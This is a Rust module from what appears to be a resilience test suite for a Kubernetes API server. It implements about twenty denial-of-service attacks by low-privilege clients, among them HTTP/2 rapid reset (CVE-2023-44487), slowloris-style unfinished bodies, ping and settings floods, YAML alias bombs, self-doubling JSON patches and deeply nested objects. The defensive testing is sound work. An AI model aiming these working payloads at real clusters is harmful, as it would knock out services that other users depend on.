//! The attacks of a hostile client within its rights: one function for each. Each runs until it is
//! dropped.
//!
//! The attackers have a token each, and the rights of a developer in a namespace of their own, or
//! no rights. The responses to their requests are ignored; the test checks the service of other
//! clients in the meantime.

pub mod control_frames;
mod expressions;
mod replicas;
mod requests;

use std::convert::Infallible;
use std::time::Duration;

use anyhow::Result;
use bytes::Bytes;
use futures::future::{BoxFuture, FutureExt};
use futures::stream::{self, FuturesUnordered, StreamExt};
use http_body_util::{Empty, StreamBody};
use hyper::Request;
use hyper::body::Frame;
use hyper::client::conn::http2;
use hyper_util::rt::{TokioExecutor, TokioIo};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::runtime::{Builder, Runtime};
use tokio::time::sleep;

use self::control_frames::{HTTP2_PING, HTTP2_SETTINGS, http2_frames};
pub use self::expressions::fixtures;
pub use self::requests::{Attack, NAMESPACE};
use self::requests::{
    HostileRequest, JSON, JSON_PATCH, TABLE, config_map, config_maps, json_body, repeat_concurrently,
    requests,
};
use crate::http::Endpoint;

/// Returns all attacks, each with its name.
///
/// - `unprivileged`: a user without any rights.
/// - `developer`: a user who may do everything in [`NAMESPACE`].
pub fn all(unprivileged: &Endpoint, developer: &Endpoint) -> Vec<(&'static str, Attack)> {
    let mut all = vec![
        ("silent connections", silent_connections(unprivileged.clone()).boxed()),
        ("unfinished bodies over HTTP/1.1", unfinished_bodies(unprivileged.clone(), 600).boxed()),
        ("unfinished bodies over HTTP/2", unfinished_bodies_http2(unprivileged.clone(), 4).boxed()),
        ("streams that are reset", reset_streams(unprivileged.clone(), 4).boxed()),
        ("large bodies", large_bodies(unprivileged.clone()).boxed()),
        ("lists that nobody reads", unread_lists(developer.clone()).boxed()),
        ("watches that nobody reads", unread_watches(developer.clone()).boxed()),
        ("pings on WebSockets", control_frames::websocket_pings(developer.clone(), 20).boxed()),
        ("pings over HTTP/2", http2_frames(unprivileged.clone(), 20, HTTP2_PING).boxed()),
        ("settings over HTTP/2", http2_frames(unprivileged.clone(), 20, HTTP2_SETTINGS).boxed()),
        ("long selectors", requests(developer.clone(), 2, long_selector).boxed()),
        ("YAML aliases", requests(developer.clone(), 2, yaml_aliases).boxed()),
        ("JSON patches that double", requests(developer.clone(), 2, doubling_patch).boxed()),
        ("JSON patches that insert", requests(developer.clone(), 2, inserting_patch).boxed()),
        ("roles multiplied out", requests(developer.clone(), 2, wide_role).boxed()),
        ("pods of many containers", requests(developer.clone(), 2, crowded_pod).boxed()),
        ("deep objects", requests(developer.clone(), 2, deep_object).boxed()),
        ("expressions of policies", requests(developer.clone(), 4, expressions::policy_requests).boxed()),
        ("rules of custom resources", requests(developer.clone(), 4, expressions::rule_requests).boxed()),
        ("columns multiplied out", requests(developer.clone(), 4, expressions::column_requests).boxed()),
        ("objects that grow", requests(developer.clone(), 2, growing_object).boxed()),
    ];
    all.extend(replicas::all(developer));
    all
}

/// Creates the runtime of the attacks. Its threads have the lowest priority, and so use only the
/// processor time that the server and its other clients leave. Real attackers have their own
/// machines.
pub fn runtime() -> std::io::Result<Runtime> {
    // Applies to the calling thread only on Linux. Without the lower priority the figures are
    // worse, not wrong.
    let last = || _ = rustix::process::setpriority_process(None, 19);
    Builder::new_multi_thread().worker_threads(2).on_thread_start(last).enable_all().build()
}

/// Opens connections that send nothing: half of them do not even start TLS.
async fn silent_connections(endpoint: Endpoint) {
    let plain = repeat_concurrently(150, || async {
        let mut socket = endpoint.socket().await?;
        socket.read_u8().await?;
        Ok(())
    });
    let tls = repeat_concurrently(150, || async {
        let mut stream = endpoint.tls(b"h2").await?;
        stream.read_u8().await?;
        Ok(())
    });
    tokio::join!(plain, tls);
}

const REVIEWS: &str = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";

/// Returns the head of an HTTP/1.1 request.
fn head(endpoint: &Endpoint, method: &str, path: &str, more: &str) -> String {
    let token = endpoint.authorization().and_then(|value| value.to_str().ok()).unwrap_or_default();
    format!("{method} {path} HTTP/1.1\r\nhost: attacked\r\nauthorization: {token}\r\n{more}\r\n")
}

async fn unfinished_bodies(endpoint: Endpoint, many: usize) {
    repeat_concurrently(many, || async {
        let mut stream = endpoint.tls(b"http/1.1").await?;
        let head =
            head(&endpoint, "POST", REVIEWS, "content-type: application/json\r\ncontent-length: 1000\r\n");
        stream.write_all(head.as_bytes()).await?;
        stream.write_all(b"{").await?;
        let mut response = Vec::new();
        stream.read_to_end(&mut response).await?;
        Ok(())
    })
    .await;
}

/// A body that never ends after its beginning.
type Unfinished = StreamBody<stream::BoxStream<'static, Result<Frame<Bytes>, Infallible>>>;

fn unfinished(begin: Bytes) -> Unfinished {
    let begin = stream::once(async { Ok(Frame::data(begin)) });
    StreamBody::new(begin.chain(stream::pending()).boxed())
}

async fn unfinished_bodies_http2(endpoint: Endpoint, connections: usize) {
    repeat_concurrently(connections, || async {
        let io = TokioIo::new(endpoint.tls(b"h2").await?);
        let (sender, connection) = http2::handshake(TokioExecutor::new(), io).await?;
        let requests = repeat_concurrently(240, || async {
            let mut sender = sender.clone();
            let mut request =
                Request::post(format!("https://attacked{REVIEWS}")).body(unfinished("{".into()))?;
            if let Some(token) = endpoint.authorization() {
                request.headers_mut().insert("authorization", token.clone());
            }
            sender.ready().await?;
            sender.send_request(request).await?;
            Ok(())
        });
        tokio::select! {
            ended = connection => Ok(ended?),
            () = requests => Ok(()),
        }
    })
    .await;
}

/// Resets HTTP/2 streams immediately after they begin: "rapid reset", CVE-2023-44487.
async fn reset_streams(endpoint: Endpoint, connections: usize) {
    repeat_concurrently(connections, || async {
        let io = TokioIo::new(endpoint.tls(b"h2").await?);
        let (mut sender, connection) = http2::handshake(TokioExecutor::new(), io).await?;
        let resets = async {
            loop {
                let mut begun = FuturesUnordered::new();
                for _ in 0..200 {
                    let mut request = Request::get(format!("https://attacked{}", config_maps()))
                        .body(Empty::<Bytes>::new())?;
                    if let Some(token) = endpoint.authorization() {
                        request.headers_mut().insert("authorization", token.clone());
                    }
                    sender.ready().await?;
                    begun.push(sender.send_request(request));
                }
                // Waits until the requests are sent. Those without a response by then are reset
                // when they are dropped.
                _ = begun.next().await;
            }
        };
        let resets: BoxFuture<'_, Result<()>> = Box::pin(resets);
        tokio::select! {
            ended = connection => Ok(ended?),
            ended = resets => ended,
        }
    })
    .await;
}

/// Sends bodies of nearly 3 MB that lack only their last byte.
async fn large_bodies(endpoint: Endpoint) {
    let most = Bytes::from(vec![b' '; (3 << 20) - 10]);
    repeat_concurrently(40, || async {
        let mut stream = endpoint.tls(b"http/1.1").await?;
        let more = format!("content-type: application/json\r\ncontent-length: {}\r\n", most.len() + 1);
        stream.write_all(head(&endpoint, "POST", REVIEWS, &more).as_bytes()).await?;
        stream.write_all(&most).await?;
        let mut response = Vec::new();
        stream.read_to_end(&mut response).await?;
        Ok(())
    })
    .await;
}

async fn unread(endpoint: &Endpoint, path: &str, accept: &str) -> Result<()> {
    let mut stream = endpoint.tls(b"http/1.1").await?;
    let head = head(endpoint, "GET", path, &format!("accept: {accept}\r\n"));
    stream.write_all(head.as_bytes()).await?;
    // Reads only one byte, so that the response has begun.
    stream.read_u8().await?;
    sleep(Duration::from_secs(90)).await;
    Ok(())
}

async fn unread_lists(endpoint: Endpoint) {
    let path = config_maps();
    let (pretty, plain) = (format!("{path}?pretty=1"), path.as_str());
    let list = |path: &str, accept: &'static str| {
        let (endpoint, path) = (endpoint.clone(), path.to_owned());
        async move { repeat_concurrently(15, || unread(&endpoint, &path, accept)).await }
    };
    tokio::join!(
        list(plain, "application/json"),
        list(&pretty, "application/json"),
        list(plain, "application/yaml"),
        list(plain, "application/vnd.kubernetes.protobuf"),
        list(plain, TABLE),
    );
}

async fn unread_watches(endpoint: Endpoint) {
    let path = format!("{}?watch=1", config_maps());
    repeat_concurrently(40, || unread(&endpoint, &path, "application/json")).await;
}

/// Returns a list request with the longest permitted selector. Every object meets all requirements
/// except the last one.
fn long_selector() -> Vec<HostileRequest> {
    let met: String = (0..999).map(|i| format!("!k{i},")).collect();
    vec![("GET", format!("{}?labelSelector={met}k%3Dv", config_maps()), JSON, Bytes::new())]
}

fn yaml_aliases() -> Vec<HostileRequest> {
    let aliases = "- *a\n".repeat(30_000);
    let body = format!(
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: aliases}}\nx: &a {}\ny:\n{aliases}",
        "x".repeat(20_000)
    );
    vec![("POST", config_maps(), "application/yaml", body.into())]
}

fn doubling_patch() -> Vec<HostileRequest> {
    let mut operations =
        vec![json!({"op": "add", "path": "/metadata/annotations", "value": {"a": {"b": "x".repeat(1000)}}})];
    for _ in 0..40 {
        operations.push(
            json!({"op": "copy", "from": "/metadata/annotations", "path": "/metadata/annotations/a/b"}),
        );
    }
    let path = format!("{}/doubled", config_maps());
    vec![config_map("doubled", json!({})), ("PATCH", path, JSON_PATCH, json_body(&operations.into()))]
}

fn inserting_patch() -> Vec<HostileRequest> {
    let insert = json!({"op": "add", "path": "/metadata/finalizers/0", "value": "example.com/x"});
    let many: Vec<Value> = (0..20_000).map(|i| json!(format!("example.com/f{i}"))).collect();
    let mut operations = vec![json!({"op": "add", "path": "/metadata/finalizers", "value": many})];
    operations.extend(std::iter::repeat_n(insert, 9_000));
    let path = format!("{}/inserted", config_maps());
    vec![config_map("inserted", json!({})), ("PATCH", path, JSON_PATCH, json_body(&operations.into()))]
}

fn wide_role() -> Vec<HostileRequest> {
    let sixty = |prefix: &str| (0..60).map(|i| format!("{prefix}{i}")).collect::<Vec<_>>();
    let rule = json!({
        "apiGroups": sixty("g"), "resources": sixty("r"), "verbs": sixty("v"), "resourceNames": sixty("n"),
    });
    let role = json!({"metadata": {"name": "wide"}, "rules": [rule]});
    let path = format!("/apis/rbac.authorization.k8s.io/v1/namespaces/{NAMESPACE}/roles");
    vec![("POST", path, JSON, json_body(&role))]
}

fn crowded_pod() -> Vec<HostileRequest> {
    let containers = vec![json!({}); 14_000];
    let pod = json!({"metadata": {"name": "crowded"}, "spec": {"containers": containers}});
    vec![("POST", format!("/api/v1/namespaces/{NAMESPACE}/pods"), JSON, json_body(&pod))]
}

fn deep_object() -> Vec<HostileRequest> {
    let deep = "{\"a\":".repeat(100_000) + "1" + &"}".repeat(100_000);
    let body = format!("{{\"metadata\":{{\"name\":\"deep\"}},\"data\":{deep}}}");
    let revision = format!("{{\"metadata\":{{\"name\":\"deep\"}},\"revision\":1,\"data\":{deep}}}");
    let revisions = format!("/apis/apps/v1/namespaces/{NAMESPACE}/controllerrevisions");
    vec![("POST", config_maps(), JSON, body.into()), ("POST", revisions, JSON, revision.into())]
}

fn growing_object() -> Vec<HostileRequest> {
    let path = format!("{}/growing", config_maps());
    let grow = (0..20).map(|i| {
        let add = json!([{"op": "add", "path": format!("/data/k{i}"), "value": "x".repeat(500_000)}]);
        ("PATCH", path.clone(), JSON_PATCH, json_body(&add))
    });
    [config_map("growing", json!({}))].into_iter().chain(grow).collect()
}
